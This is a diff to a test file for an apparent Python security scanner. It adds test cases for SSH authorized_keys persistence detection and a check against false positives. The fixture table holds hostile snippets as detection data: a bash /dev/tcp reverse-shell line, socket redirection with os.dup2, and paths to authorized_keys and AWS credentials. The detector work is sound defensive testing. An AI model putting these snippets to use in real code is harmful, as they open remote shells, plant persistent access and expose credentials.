@@ -173,6 +173,7 @@ const MISSED: [string, string][] = [
   ["os.dup2(s.fileno(), 0)", "py/reverse-shell high"],
   ["c = 'bash -i >& /dev/tcp/a.b/1 0>&1'", "py/reverse-shell critical"],
   ["p = '/home/u/.ssh/authorized_keys'", "py/persistence high"],
+  ["p = os.path.join(home, '.ssh', 'authorized_keys')", "py/persistence high"],
   ["p = '~/.aws/credentials'", "py/names-credentials medium"],
   ["importlib.import_module(x)", "py/dynamic-import low"],
 ];
@@ -188,6 +189,15 @@ for (const [source, expected] of MISSED) {
     assert(all.some((each) => each.startsWith(expected)), all.join(", "));
   });
 }
+
+Deno.test("audit takes a field of a cloud's machines for no file that grants access", async () => {
+  const all = await found(`class Check:
+    name = "Ensure a key is set in authorized_keys"
+    def key(self):
+        return "authorized_keys"
+`);
+  assert(!all.some((each) => each.startsWith("py/persistence")), all.join(", "));
+});
 
 Deno.test("audit weighs ruff's rules by their arguments", async () => {
   const all = await found(`import subprocess, os, hashlib
